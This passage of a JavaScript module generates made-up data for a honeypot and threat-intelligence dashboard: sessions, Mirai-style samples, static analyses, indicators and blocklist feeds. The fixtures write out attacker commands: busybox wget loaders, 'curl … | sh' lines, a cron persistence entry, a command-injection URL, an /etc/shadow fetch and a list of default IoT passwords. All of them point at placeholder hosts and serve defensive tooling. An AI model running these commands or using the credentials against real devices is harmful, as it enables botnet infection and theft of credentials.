// A small made-up world that honours the hub's API: addresses from the documentation ranges,
// names under .example, the same at every start.

import { createHash } from 'node:crypto';

/** A small deterministic generator (mulberry32). */
export function generator(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const random = generator(20260101);
const pick = (list) => list[Math.floor(random() * list.length)];
const between = (low, high) => low + Math.floor(random() * (high - low));
const hexDigits = (n) => Array.from({ length: n }, () => between(0, 16).toString(16)).join('');
const sha = (text, kind = 'sha256') => createHash(kind).update(text).digest('hex');
const nanos = (ms) => new Date(ms).toISOString().replace('Z', '000000Z');

export function uuid7(ms) {
  const time = Math.floor(ms).toString(16).padStart(12, '0');
  return `${time.slice(0, 8)}-${time.slice(8)}-7${hexDigits(3)}-${pick(['8', '9', 'a', 'b'])}${hexDigits(3)}-${hexDigits(12)}`;
}
function uuid8(name) {
  const h = sha(name);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-8${h.slice(13, 16)}-8${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

const now = Date.now();
const SENSOR = 'tokyo-1';
const sources = Array.from({ length: 40 }, (_, i) =>
  i % 9 === 8 ? `2001:db8:${between(1, 0xffff).toString(16)}::${between(1, 0xffff).toString(16)}` : `${pick(['198.51.100', '203.0.113', '192.0.2'])}.${between(2, 254)}`,
);
const credentials = [
  ['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', '888888'], ['support', 'support'],
  ['root', 'juantech'], ['root', '123456'], ['admin', 'password'], ['guest', '12345'], ['root', '\\x1b[31m'], ['ubnt', 'ubnt'],
];
const loader = (arch, host) =>
  `cd /tmp || cd /var/run; /bin/busybox wget http://${host}/bins/mirai.${arch} -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper selfrep.telnet; >dvrHelper`;
const hosts = ['198.51.100.77', 'cdn.update-node.example', '203.0.113.9:8080', 'dl.kagari.example'];

// Samples -----------------------------------------------------------------------------------

const machines = [
  ['mips', 32, false], ['mipsel', 32, true], ['arm', 32, true], ['x86-64', 64, true], ['sh', 32, true], ['powerpc', 32, false],
];
export const samples = [];
export const analyses = new Map();
for (let i = 0; i < 34; i += 1) {
  const script = i % 5 === 3;
  const [machine, bits, little] = pick(machines);
  const name = script ? pick(['bins.sh', 'w.sh', 'wget.sh']) : `mirai.${machine}`;
  const sha256 = sha(`sample ${i}`);
  const first = now - between(3, 6 * 24) * 3_600_000;
  const last = Math.min(now - 20_000, first + between(0, 30) * 600_000);
  const host = pick(hosts);
  const url = `http://${host}/${script ? name : `bins/${name}`}`;
  const size = script ? between(600, 2400) : between(38_000, 190_000);
  const description = script
    ? 'POSIX shell script, ASCII text executable'
    : `ELF ${bits}-bit ${little ? 'LSB' : 'MSB'} executable, ${machine.toUpperCase()}, statically linked, stripped`;
  const outcome = i === 0 ? null : i === 7 ? 'partial' : i === 12 ? 'failed' : 'complete';
  samples.push({
    sha256, size, first_seen: nanos(first), last_seen: nanos(i === 0 ? now - 9000 : last), sightings: between(1, 60),
    file_type: script ? 'shell-script' : 'elf', description, names: i % 4 === 0 ? [name, 'dvrHelper'] : [name], urls: [url], analysed: outcome, stored: i !== 12, labels: i % 5 === 0 ? ['mirai'] : [],
  });
  if (outcome === null) continue;
  const key = pick([0x22, 0x54, 0x37]);
  const c2 = `${pick(['cnc', 'report', 'gw'])}.${pick(['kagari', 'nagara', 'ayu-net'])}.example`;
  const observables = script
    ? machines.map(([arch], n) => ({ observable: { kind: 'url', value: `http://${host}/bins/mirai.${arch}` }, offset: 24 + n * 96, encoding: { encoding: 'plain' }, method: 'script' }))
    : [
        { observable: { kind: 'domain', value: c2 }, offset: 0x7c10 + between(0, 4000), encoding: { encoding: 'xor', key }, method: 'strings' },
        { observable: { kind: 'endpoint', value: `${c2}:23` }, offset: 0x7c10 + between(0, 4000), encoding: { encoding: 'xor', key }, method: 'strings' },
        { observable: { kind: 'ip', value: '198.51.100.77' }, offset: 0x6200 + between(0, 900), encoding: { encoding: 'plain' }, method: 'strings' },
        { observable: { kind: 'url', value: `http://${host}/bins/` }, offset: 0x6400 + between(0, 900), encoding: { encoding: 'plain' }, method: 'strings' },
        { observable: { kind: 'url', value: 'http://stats.ayu-net.example/p?i=' }, offset: 0x6900, encoding: { encoding: 'base64' }, method: 'strings' },
      ];
  analyses.set(sha256, {
    sha256, engine: 'static', engine_version: 1, started: nanos(last + 400), duration_ms: between(9, 140),
    outcome: outcome === 'complete' ? { state: 'complete' } : { state: outcome, reason: outcome === 'partial' ? 'wall clock of 10 s used up in strings' : 'the child process was ended by SIGXCPU' },
    size,
    file_type: { name: script ? 'shell-script' : 'elf', mime: script ? 'text/x-shellscript' : 'application/x-executable', description },
    hashes: { md5: sha(`${i}`, 'md5'), sha1: sha(`${i}`, 'sha1'), sha256, ssdeep: size > 4096 ? '1536:Xk7jZ3uUh2mB0fRzv+QbT1cYp:Xk73uU2mB0fRzv+Qb' : null, tlsh: size > 256 ? `T1${sha(`t${i}`).toUpperCase()}06` : null },
    ...(script ? {} : {
      elf: {
        bits, little_endian: little, machine, kind: 'executable', entry: 0x400260, interpreter: null, libraries: [], static_linked: true, stripped: true,
        packer: i % 6 === 1 ? 'upx (altered)' : null,
        segments: [
          { kind: 'LOAD', flags: 'r-x', offset: 0, address: 0x400000, file_size: Math.floor(size * 0.78), memory_size: Math.floor(size * 0.78) },
          { kind: 'LOAD', flags: 'rw-', offset: Math.floor(size * 0.79), address: 0x440000, file_size: Math.floor(size * 0.15), memory_size: Math.floor(size * 0.33) },
          { kind: 'GNU_STACK', flags: 'rw-', offset: 0, address: 0, file_size: 0, memory_size: 0 },
        ],
        sections: [
          { name: '.text', flags: 'r-x', offset: 0xb4, address: 0x4000b4, file_size: Math.floor(size * 0.6), memory_size: Math.floor(size * 0.6), entropy: i % 6 === 1 ? 7.91 : 6.21 },
          { name: '.rodata', flags: 'r--', offset: Math.floor(size * 0.6), address: 0x420000, file_size: 9120, memory_size: 9120, entropy: 5.02 },
        ],
        tool_chains: ['GCC: (GNU) 4.1.2'],
      },
      configurations: [{
        family: 'mirai', table_key: key.toString(16), login_key: key.toString(16), servers: [`${c2}:23`], reports: [`${c2}:48101`],
        logins: [{ user: 'root', password: 'xc3511', weight: 10 }, { user: 'admin', password: 'admin', weight: 7 }], table: ['/proc/', 'listening tun0'], confidence: 95,
      }],
    }),
    artefacts: [
      { kind: 'path', value: '/dev/watchdog', offset: 0x8010, encoding: { encoding: 'plain' }, confidence: 70 },
      { kind: 'user-agent', value: 'Mozilla/5.0 (X11; Linux x86_64)', offset: 0x8100, encoding: { encoding: 'plain' }, confidence: 80 },
      ...(script ? [{ kind: 'command', value: 'sh -c /tmp/.x', offset: 0, encoding: { encoding: 'plain' }, confidence: 85 }] : []),
    ],
    entropy: script ? 4.71 : i % 6 === 1 ? 7.86 : 6.12 + random(),
    observables,
    strings: ['/proc/net/tcp', '/dev/watchdog', '/bin/busybox', 'selfrep.telnet', 'POST /cdn-cgi/ HTTP/1.1', 'M-SEARCH * HTTP/1.1', 'Mozilla/5.0 (X11; Linux x86_64)', 'enable\\x00system\\x00shell', ...Array.from({ length: 260 }, (_, n) => `${pick(['.text', 'uClibc', 'GCC: (GNU) ', 'resolv.conf', '/etc/', 'nvram_get', 'attack_'])}${n}`)],
    ...(script ? { commands: machines.map(([arch]) => loader(arch, host)) } : {}),
    ...(script ? {
      acts: [
        ...machines.flatMap(([arch]) => [{ act: 'fetch', url: `http://${host}/bins/${arch}`, to: '/tmp/.x' }, { act: 'run', line: `/tmp/.x ${arch}` }]),
        { act: 'set', what: '/var/spool/cron/crontabs/root', value: `*/5 * * * * curl -s http://${host}/l.sh | sh` },
        { act: 'connect', host: c2, port: 23 },
      ],
    } : {}),
    notes: i === 7 ? ['strings: the limit of 1,000 was reached'] : [],
  });
}

// Sessions and their events ---------------------------------------------------------------

export const sessions = [];
export const events = [];
const bySession = new Map();

function push(session, at, kind, fields) {
  const event = {
    v: 1, id: uuid7(at), time: nanos(at), sensor: SENSOR, session: session.id, transport: 'tcp',
    src_ip: session.src_ip, src_port: session.src_port, dst_ip: session.dst_ip, dst_port: session.dst_port, kind, ...fields,
  };
  bySession.get(session.id).push(event);
  return event;
}

const clients = [
  ['92674389fa1e47a27ddd8d9b63ecd42b', 'SSH-2.0-Go'], ['f555226df1963d1d3c09daf865abdc9a', 'SSH-2.0-libssh2_1.4.3'],
  ['ec7378c1a92f5a8dde7e8b7a1ddf33d1', 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3'], ['3f0099d323fed5119bbfcca064478207', 'SSH-2.0-paramiko_2.8.1'],
];

/** A session by SSH, FTP or SMTP. */
function makeOther(start) {
  const protocol = pick(['ssh', 'ssh', 'ssh', 'ftp', 'smtp']);
  const session = {
    id: uuid7(start), sensor: SENSOR, started: nanos(start), ended: null, last_event: nanos(start), protocol, persona: 'server-debian', transport: 'tcp',
    src_ip: pick(sources), src_port: between(1024, 65535), dst_ip: '192.0.2.12', dst_port: { ssh: 22, ftp: 21, smtp: 25 }[protocol],
    logins: 0, login_success: false, commands: 0, downloads: 0, samples: 0, recorded: false, reason: null, bytes_in: between(600, 9000), bytes_out: between(900, 20_000),
  };
  bySession.set(session.id, []);
  let at = start;
  const step = () => (at += between(150, 2500));
  const login = (user, password, success, more = {}) => {
    push(session, step(), 'login.attempt', { protocol, user, password, success, ...more });
    session.logins += 1;
    session.login_success ||= success;
  };
  push(session, at, 'session.open', { protocol, persona: session.persona });
  if (protocol === 'ssh') {
    const [value, software] = pick(clients);
    push(session, step(), 'client.fingerprint', { method: 'hassh', value, software });
    login('root', '', false, { method: 'publickey', proof: `ssh-ed25519 SHA256:${sha(value).slice(0, 43)}` });
    if (random() < 0.3) {
      login('backup-svc', 'Winter2025!', false);
      push(session, at, 'login.canary', { protocol, user: 'backup-svc', note: 'configuration example in the intranet wiki' });
    }
    const [user, password] = pick(credentials);
    login(user, password, true, random() < 0.3 ? { method: 'keyboard-interactive' } : {});
    for (const request of ['env LANG=C.UTF-8', 'pty-req xterm 120x40', 'x11-req MIT-MAGIC-COOKIE-1']) push(session, step(), 'service.request', { protocol, request: request.split(' ')[0], detail: request.split(' ').slice(1).join(' ') });
    for (const line of ['uname -a', 'cat /proc/cpuinfo | grep name | head -n 1', 'free -m', 'nproc; w', 'curl -s http://198.51.100.77/x.sh | sh']) {
      push(session, step(), 'command.input', { line });
      session.commands += 1;
    }
    push(session, step(), 'file.transfer', { protocol: 'sftp', operation: 'upload', path: '/tmp/.X11-unix/kswapd0', size: 1_204_992, success: true });
    push(session, step(), 'file.transfer', { protocol: 'sftp', operation: 'attributes', path: '/tmp/.X11-unix/kswapd0', size: 0, success: true });
    push(session, step(), 'file.transfer', { protocol: 'scp', operation: 'download', path: '/etc/shadow', size: 812, success: true });
    push(session, step(), 'tunnel.request', { how: 'direct-tcpip', host: '203.0.113.80', port: 443, origin: '127.0.0.1:40122', granted: true });
    push(session, step(), 'tunnel.request', { how: 'tcpip-forward', host: '0.0.0.0', port: 4444, granted: false });
    session.recorded = true;
  } else if (protocol === 'ftp') {
    login('anonymous', 'mozilla@example.com', true, { method: 'anonymous' });
    for (const [request, detail] of [['SYST', ''], ['PASV', ''], ['STOR', 'index.php'], ['QUIT', '']]) push(session, step(), 'service.request', { protocol, request, ...(detail ? { detail } : {}) });
    push(session, step(), 'file.transfer', { protocol, operation: 'upload', path: '/pub/index.php', size: 2048, success: true });
    push(session, step(), 'file.transfer', { protocol, operation: 'delete', path: '/pub/old.php', size: 0, success: false });
  } else {
    login('info@example.org', 'info123', true, { method: 'login' });
    push(session, step(), 'service.request', { protocol, request: 'EHLO', detail: 'win-k7j2' });
    push(session, step(), 'mail.received', { from: 'info@example.org', to: ['probe1@example.net', 'probe2@example.net'], recipients: 2, subject: 'smtp 192.0.2.12 info@example.org info123', size: 1290 });
  }
  session.ended = nanos(step());
  session.reason = 'peer';
  push(session, at, 'session.close', { protocol, reason: 'peer', duration_ms: at - start, bytes_in: session.bytes_in, bytes_out: session.bytes_out, recorded: session.recorded });
  return { session, events: bySession.get(session.id), samples: [] };
}

/** A session as a bot would have it, beginning at `start`. */
export function makeSession(start) {
  const telnet = random() < 0.72;
  if (!telnet && random() < 0.45) return makeOther(start);
  const [protocol, port, persona] = telnet ? ['telnet', pick([23, 2323]), 'router-mips'] : random() < 0.7 ? ['http', pick([80, 8080, 81]), 'camera-arm'] : ['raw', pick([445, 5555, 7547, 6379]), 'server-debian'];
  const session = {
    id: uuid7(start), sensor: SENSOR, started: nanos(start), ended: null, last_event: nanos(start), protocol, persona, transport: 'tcp',
    src_ip: sources[Math.floor(random() ** 2 * sources.length)], src_port: between(1024, 65535), dst_ip: random() < 0.1 ? '2001:db8::10' : '192.0.2.10', dst_port: port,
    logins: 0, login_success: false, commands: 0, downloads: 0, samples: 0, recorded: false, reason: null, bytes_in: between(60, 4000), bytes_out: between(200, 9000),
  };
  bySession.set(session.id, []);
  let at = start;
  const step = () => (at += between(150, 2500));
  push(session, at, 'session.open', { protocol, persona });
  const list = [];
  if (telnet) {
    push(session, step(), 'client.fingerprint', { method: 'telnet-options', value: 'ff fd 01 ff fb 1f', software: null });
    const tries = between(1, 5);
    for (let n = 0; n < tries; n += 1) {
      const [user, password] = pick(credentials);
      const success = n === tries - 1 && random() < 0.8;
      push(session, step(), 'login.attempt', { protocol, user, password, success });
      session.logins += 1;
      session.login_success ||= success;
    }
    if (session.login_success) {
      session.recorded = true;
      const sample = pick(samples);
      const url = sample.urls[0];
      for (const [line, unknown] of [['enable', []], ['system', ['system']], ['shell', []], ['sh', []], ['/bin/busybox ECCHI', []], ['cat /proc/mounts; /bin/busybox ECCHI', []], [`/bin/busybox wget ${url} -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper selfrep.telnet`, []]]) {
        push(session, step(), 'command.input', { line, ...(unknown.length > 0 ? { unknown } : {}) });
        session.commands += 1;
      }
      push(session, step(), 'download.request', { url, tool: 'wget' });
      push(session, step(), 'download.result', { url, outcome: 'complete', sha256: sample.sha256, size: sample.size, server_ip: '198.51.100.77', duration_ms: between(80, 900) });
      push(session, step(), 'sample.captured', { sha256: sample.sha256, size: sample.size, how: 'fetched', name: 'dvrHelper', url });
      push(session, step(), 'command.executed', { path: '/tmp/dvrHelper', arguments: './dvrHelper selfrep.telnet', sha256: sample.sha256 });
      session.downloads += 1;
      session.samples += 1;
      list.push(sample.sha256);
    }
  } else if (protocol === 'http') {
    const target = pick(['/GponForm/diag_Form?images/', '/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://198.51.100.77/w.sh', '/', '/boaform/admin/formLogin', '/shell?cd+/tmp;rm+-rf+*']);
    push(session, step(), 'http.request', { method: 'GET', target, host: '192.0.2.10', user_agent: pick(['Hello, world', 'Mozilla/5.0 zgrab/0.x', 'curl/7.88.1']), head: `GET ${target} HTTP/1.1\\x0d\\x0aHost: 192.0.2.10\\x0d\\x0a\\x0d\\x0a`, body_size: 0, status: pick([200, 401, 404]) });
    if (target.includes('wget')) push(session, step(), 'attack.recognised', { attack: 'command-injection', detail: target });
  } else {
    push(session, step(), 'protocol.recognised', { protocol: pick(['smb', 'adb', 'redis', 'tls']) });
    push(session, step(), 'payload.first', { protocol: 'unknown', payload: '\\x00\\x00\\x00\\x85\\xffSMBr\\x00\\x00\\x00\\x00\\x18S\\xc8', size: 137 });
  }
  const open = now - at < 6000 && start > now - 60_000;
  if (!open) {
    step();
    session.ended = nanos(at);
    session.reason = pick(['peer', 'peer', 'peer', 'idle-timeout', 'emulator', 'time-limit']);
    push(session, at, 'session.close', { protocol, reason: session.reason, duration_ms: at - start, bytes_in: session.bytes_in, bytes_out: session.bytes_out, recorded: session.recorded });
  }
  return { session, events: bySession.get(session.id), samples: list };
}

const made = [];
for (let i = 0; i < 320; i += 1) made.push(makeSession(now - 30_000 - Math.floor(random() ** 1.6 * 26 * 3_600_000)));
made.sort((a, b) => (a.session.started < b.session.started ? 1 : -1));
export const samplesOf = new Map();
for (const one of made) {
  sessions.push(one.session);
  events.push(...one.events);
  samplesOf.set(one.session.id, one.samples);
}
events.sort((a, b) => (a.time < b.time ? 1 : -1));
export const eventsOf = (id) => bySession.get(id) ?? [];

// Indicators --------------------------------------------------------------------------------

export const indicators = [];
const DAY = 86_400_000;
const lifetimes = { ip: 3 * DAY, domain: 21 * DAY, url: 7 * DAY, endpoint: 7 * DAY, sha256: 7_000 * 365 * DAY };

function evidence(kind, event, detail, sample = null) {
  return { kind, time: event.time, event: event.id, session: event.session ?? null, sensor: SENSOR, sample, detail };
}
function add(kind, value, role, list, confidence, withheld = null) {
  if (list.length === 0) return;
  const last = list.at(-1).time;
  const validUntil = kind === 'sha256' ? '9999-12-31T23:59:59.999999999Z' : nanos(Date.parse(last) + lifetimes[kind]);
  indicators.push({
    id: uuid8(`${role}\n${kind}\n${value}`), observable: { kind, value }, role, confidence, current_confidence: Math.max(4, confidence - between(0, 14)), tlp: pick(['clear', 'green', 'green', 'amber']),
    first_seen: list[0].time, last_seen: last, valid_until: validUntil, evidence: list.slice(-64), evidence_count: list.length + between(0, 40), withheld,
  });
}
const oldest = [...events].reverse();
for (const ip of new Set(sessions.map((one) => one.src_ip))) {
  const list = oldest.filter((event) => event.src_ip === ip && ['session.open', 'login.attempt', 'command.input'].includes(event.kind)).slice(-8)
    .map((event) => evidence(event.kind === 'session.open' ? 'connection' : event.kind === 'login.attempt' ? 'login' : 'attack', event, event.kind === 'login.attempt' ? 'log-in tried over Telnet' : event.kind === 'session.open' ? `completed connection to port ${event.dst_port}` : 'commands given in a Telnet session'));
  add('ip', ip, 'scanner', list, between(35, 92), ip === sources[0] ? 'allow-listed: research scanner' : null);
}
const withSample = (sha256) => oldest.filter((event) => event.sha256 === sha256);
for (const sample of samples) {
  const captured = withSample(sample.sha256).filter((event) => event.kind === 'sample.captured');
  if (captured.length > 0) add('sha256', sample.sha256, 'malware', captured.slice(-5).map((event) => evidence('capture', event, 'fetched by wget in a Telnet session', sample.sha256)), between(80, 100));
  for (const url of sample.urls) {
    const results = oldest.filter((event) => event.kind === 'download.result' && event.url === url);
    if (results.length > 0 && !indicators.some((one) => one.observable.value === url)) {
      add('url', url, 'distribution', results.slice(-6).flatMap((event) => [evidence('download-asked', event, 'wget in a Telnet session'), evidence('download-served', event, `${event.size} bytes served`, event.sha256)]), between(70, 98));
    }
  }
  for (const found of analyses.get(sample.sha256)?.observables ?? []) {
    const { kind, value } = found.observable;
    if (found.encoding.encoding !== 'xor' || captured.length === 0 || indicators.some((one) => one.observable.value === value)) continue;
    const at = captured.at(-1);
    add(kind, value, 'c2', [
      evidence('download-served', withSample(sample.sha256).find((event) => event.kind === 'download.result') ?? at, 'the sample was fetched in a Telnet session', sample.sha256),
      { ...evidence('static-hidden', at, `XOR 0x${found.encoding.key.toString(16)} at offset ${found.offset}`, sample.sha256) },
    ], between(60, 95));
  }
}
indicators.sort((a, b) => (a.last_seen < b.last_seen ? 1 : -1));

/** A session's terminal as asciicast v2. */
export function recording(id) {
  const list = eventsOf(id).filter((event) => ['login.attempt', 'command.input', 'download.result'].includes(event.kind));
  if (list.length === 0) return null;
  const start = Date.parse(eventsOf(id)[0].time);
  const lines = [JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(start / 1000) })];
  const put = (event, offset, text) => lines.push(JSON.stringify([(Date.parse(event.time) - start) / 1000 + offset, 'o', text]));
  let inside = false;
  for (const event of list) {
    if (event.kind === 'login.attempt') {
      put(event, 0, `\r\nhg-router login: ${event.user}\r\nPassword: \r\n`);
      put(event, 0.2, event.success ? '\r\n\r\nBusyBox v1.19.4 (2019-03-12) built-in shell (ash)\r\nEnter \'help\' for a list of built-in commands.\r\n\r\n\x1b[1;32m#\x1b[0m ' : '\r\nLogin incorrect\r\n');
      inside ||= event.success;
    } else if (event.kind === 'command.input') {
      put(event, 0, `${event.line}\r\n`);
      const answer = event.line.includes('ECCHI') ? `${event.line.includes('mounts') ? 'rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\nproc /proc proc rw,relatime 0 0\r\ntmpfs /tmp tmpfs rw,relatime 0 0\r\n' : ''}ECCHI: applet not found\r\n` : event.line === 'system' ? '\x1b[31msh: system: not found\x1b[0m\r\n' : '';
      put(event, 0.1, `${answer}${event.line.includes('wget') ? '' : '\x1b[1;32m#\x1b[0m '}`);
    } else {
      put(event, 0, `Connecting to ${event.server_ip} (${event.server_ip}:80)\r\n-                    100% |*******************************| ${Math.round(event.size / 1024)}k  0:00:00 ETA\r\n\x1b[1;32m#\x1b[0m `);
    }
  }
  return `${lines.join('\n')}\n`;
}

export const feeds = [
  ['domains', 'domains.txt', 'text', 'Domains of C&C and distribution, one per line', 'text/plain; charset=utf-8'],
  ['ips', 'ips.txt', 'text', 'Addresses, one per line', 'text/plain; charset=utf-8'],
  ['urls', 'urls.txt', 'text', 'URLs that give out malware, one per line', 'text/plain; charset=utf-8'],
  ['hashes', 'hashes.txt', 'text', 'SHA-256 of captured malware, one per line', 'text/plain; charset=utf-8'],
  ['indicators-csv', 'indicators.csv', 'csv', 'All indicators with role, confidence and validity', 'text/csv; charset=utf-8'],
  ['indicators-json', 'indicators.json', 'json', 'All indicators with role, confidence and validity', 'application/json'],
  ['rpz', 'rpz.zone', 'rpz', 'DNS response policy zone: C&C and distribution domains answer NXDOMAIN', 'text/dns'],
  ['nftables', 'nftables.nft', 'nftables', 'nftables sets of C&C and distribution addresses', 'text/plain; charset=utf-8'],
].map(([name, file, format, description, mediaType]) => {
  const kinds = { 'domains.txt': ['domain'], 'ips.txt': ['ip'], 'urls.txt': ['url'], 'hashes.txt': ['sha256'], 'rpz.zone': ['domain'], 'nftables.nft': ['ip'] }[file];
  const body = `${indicators.filter((one) => one.withheld === null && (!kinds || kinds.includes(one.observable.kind))).map((one) => one.observable.value).join('\n')}\n`;
  return {
    body,
    item: { name, file, format, description, media_type: mediaType, entries: body.split('\n').length - 1, size: body.length, etag: `"${sha(body).slice(0, 16)}"`, updated: nanos(now - between(60, 7200) * 1000), url: `/feeds/${file}`, how_to_load: `curl -u feed:TOKEN /feeds/${file}` },
  };
});

/** Values by how often they came. */
function ranked(values, factor = 1) {
  const counts = new Map();
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
  return [...counts].map(([value, count]) => ({ value: String(value), count: count * factor })).sort((a, b) => b.count - a.count);
}

/** The page about log-ins. */
export function loginsOf(range, protocol) {
  const all = events.filter((one) => one.kind === 'login.attempt');
  const some = all.filter((one) => !protocol || one.protocol === protocol);
  const typed = some.filter((one) => one.method !== 'publickey');
  const pairs = ranked(typed.map((one) => `${one.user}:${one.password}`));
  return {
    range,
    protocols: ranked(all.map((one) => one.protocol)).map(({ value, count }) => ({ protocol: value, attempts: count, successes: all.filter((one) => one.protocol === value && one.success).length })),
    users: ranked(some.map((one) => one.user)), passwords: ranked(typed.map((one) => one.password)), pairs,
    new_pairs: pairs.filter((_, n) => n % 3 === 1),
    keys: ranked(some.filter((one) => one.method === 'publickey').map((one) => one.proof)),
    clients: ranked(events.filter((one) => one.kind === 'client.fingerprint').map((one) => JSON.stringify([one.method, one.value, one.software ?? '']))).map(({ value, count }) => {
      const [method, fingerprint, software] = JSON.parse(value);
      return { method, value: fingerprint, software, count };
    }),
    canaries: events.filter((one) => one.kind === 'login.canary').slice(0, 50),
    counted: protocol ? some.length : null, complete: true,
  };
}

/** Buckets of the overview: busy by day, with a burst or two. */
export function overview(range) {
  const [span, step] = { '1h': [3_600_000, 60_000], '24h': [DAY, 15 * 60_000], '7d': [7 * DAY, 2 * 3_600_000], '30d': [30 * DAY, 8 * 3_600_000] }[range];
  const draw = generator(span);
  const buckets = [];
  const end = Math.floor(Date.now() / step) * step;
  for (let at = end - span + step; at <= end; at += step) {
    const wave = 1 + 0.45 * Math.sin((at / DAY) * 2 * Math.PI) + 0.35 * draw();
    const burst = Math.abs((at - end) / span + 0.31) < 0.035 ? 2.6 : 1;
    const n = Math.round((wave * burst * 34 * step) / 900_000 + draw() * 2);
    const logins = Math.round(n * (2.1 + draw()));
    buckets.push({ time: nanos(at), sessions: n, logins, commands: Math.round(n * 3.4), downloads: Math.round(n * 0.28 * draw()), samples: draw() < 0.3 ? Math.round(n * 0.07 * draw()) : 0, attacks: Math.round(n * 0.4) });
  }
  const names = ['sessions', 'logins', 'commands', 'downloads', 'samples', 'attacks'];
  const totals = Object.fromEntries(names.map((name) => [name, buckets.reduce((sum, one) => sum + one[name], 0)]));
  const factors = [0.88, 0.71, 0.93, 1.12, 0.6, 1];
  const previous = Object.fromEntries(names.map((name, i) => [name, Math.round(totals[name] * factors[i])]));
  const top = (values) => ranked(values, 17).slice(0, 10);
  return {
    range, buckets, totals, previous,
    top_ports: top(sessions.map((one) => one.dst_port)),
    top_sources: top(sessions.map((one) => one.src_ip)),
    top_credentials: top(events.filter((one) => one.kind === 'login.attempt').map((one) => `${one.user}:${one.password}`)),
    top_commands: top(events.filter((one) => one.kind === 'command.input').map((one) => one.line)),
    recent_sessions: sessions.slice(0, 10), recent_samples: [...samples].sort((a, b) => (a.last_seen < b.last_seen ? 1 : -1)).slice(0, 10), recent_indicators: indicators.slice(0, 10),
    canaries: events.filter((one) => one.kind === 'login.canary').slice(0, 10),
  };
}

export const status = () => ({
  version: '0.0.0', started: nanos(now - 5.3 * DAY), sensor: SENSOR,
  services: [
    { protocol: 'telnet', address: '0.0.0.0:23', persona: 'router-mips' }, { protocol: 'telnet', address: '0.0.0.0:2323', persona: 'router-mips' },
    { protocol: 'http', address: '0.0.0.0:80', persona: 'camera-arm' }, { protocol: 'http', address: '[::]:8080', persona: 'camera-arm' }, { protocol: 'raw', address: '0.0.0.0:445', persona: 'server-debian' },
  ],
  data_dir: '/var/lib/ukai', disk: { used_bytes: 7_340_032_000, quota_bytes: 21_474_836_480, free_bytes: 103_079_215_104 }, queue: { waiting: 3, leased: 1, quarantined: 1 },
  store: { state: 'ok' }, faults: [],
  engines: [{ engine: 'clamav', down: null, product: 'ClamAV 1.4.3', signatures: '27500, Fri Nov 27 08:22:01 2026', clean: 310, detected: 88, not_scanned: 0 }, { engine: 'gateway', down: 'cannot be reached: Connection refused (os error 111)', product: null, signatures: null, clean: 0, detected: 0, not_scanned: 398 }],
  lookups: [{ service: 'virustotal', waits: null, asked_today: 42 }, { service: 'otx', waits: 'off: it has no key (key_file)', asked_today: 0 }],
  totals: { events: 1_284_402, sessions: 96_120, samples: 1834, indicators: 5210 },
});

const HOUR_MS = 3_600_000;
const darkPorts = [['23/tcp', 900], ['22/tcp', 520], ['80/tcp', 410], ['443/tcp', 380], ['8080/tcp', 300], ['3389/tcp', 260], ['445/tcp', 240], ['5555/tcp', 160], ['53/udp', 120], ['123/udp', 90], ['1900/udp', 70], ['icmp', 60], ['8291/tcp', 12], ['37215/tcp', 44], ['60023/tcp', 30]];

function scannerEvent(source, own = false) {
  const last = now - between(60_000, 20 * HOUR_MS);
  const tool = pick(['zmap', 'masscan', 'mirai', 'nmap', 'linux-sockets', undefined]);
  const cyclic = tool === 'zmap' && random() < 0.7;
  return {
    ...event('telescope.scanner', last),
    state: random() < 0.2 ? 'began' : 'ended',
    source,
    own,
    ...(random() < 0.2 ? { known: 'Censys' } : {}),
    ...(random() < 0.8 ? { country: pick(['JP', 'US', 'DE', 'BR', 'VN']), asn: 64_496 + between(0, 15), as_name: 'Example Networks of the Very Long Name, Inc.' } : {}),
    first: nanos(last - between(60_000, 5 * HOUR_MS)),
    last: nanos(last),
    packets: between(20, 200_000),
    ...(tool ? { tool } : {}),
    ports: ['23/tcp', '2323/tcp', '80/tcp', '8080/tcp'].slice(0, between(1, 5)),
    distinct_ports: pick([1, 2, 9, 1200]),
    addresses: between(20, 65_536),
    order: cyclic ? 'cyclic' : pick(['ascending', 'each-once', 'random', 'scattered']),
    internet_rate: between(100, 900_000),
    ...(cyclic ? { generator: pick([0x2f0cb4c3, 0x11d7a9]), done_permille: between(1, 1000) } : {}),
  };
}
function event(kind, time) {
  return { v: 1, id: uuid7(time), time: nanos(time), sensor: SENSOR, kind };
}
const scanners = sources.slice(0, 30).map((source) => scannerEvent(source)).sort((a, b) => b.packets - a.packets);

/** The telescope in numbers. */
export function telescope(range) {
  const hours = { '24h': 24, '7d': 168, '30d': 720 }[range] ?? 24;
  const times = Array.from({ length: hours }, (_, at) => nanos(Math.floor(now / HOUR_MS - hours + at) * HOUR_MS));
  const intervals = times.map((begins) => {
    const [scan, backscatter, other] = [between(200_000, 300_000), between(9_000, 30_000), between(2_000, 5_000)];
    return { begins, packets: scan + backscatter + other, sources: between(9_000, 12_000), scan, backscatter, other, dropped: 0 };
  });
  const ports = darkPorts.map(([port, usual], at) => {
    const cells = times.map((begins, hour) => ({ begins, sources: Math.round(usual * (0.7 + random() * 0.6) * (port === '8291/tcp' && hour > hours - 5 ? 40 : 1)), packets: usual * between(2, 9) }));
    return { port, packets: cells.reduce((sum, cell) => sum + cell.packets, 0), sources: usual * 12, sources_before: usual * 11, rank: at + 1, rank_before: pick([at + 1, at + 2, Math.max(1, at - 1), null]), cells };
  });
  const attacks = Array.from({ length: 24 }, (_, at) => {
    const first = now - between(HOUR_MS, 20 * HOUR_MS);
    const bombed = at % 8 === 5;
    return {
      ...event('telescope.attack', first),
      state: at < 2 ? 'began' : 'ended',
      victim: bombed ? '203.0.113.0/24' : pick(sources),
      country: pick(['US', 'JP', 'CN', 'DE']),
      asn: 64_500,
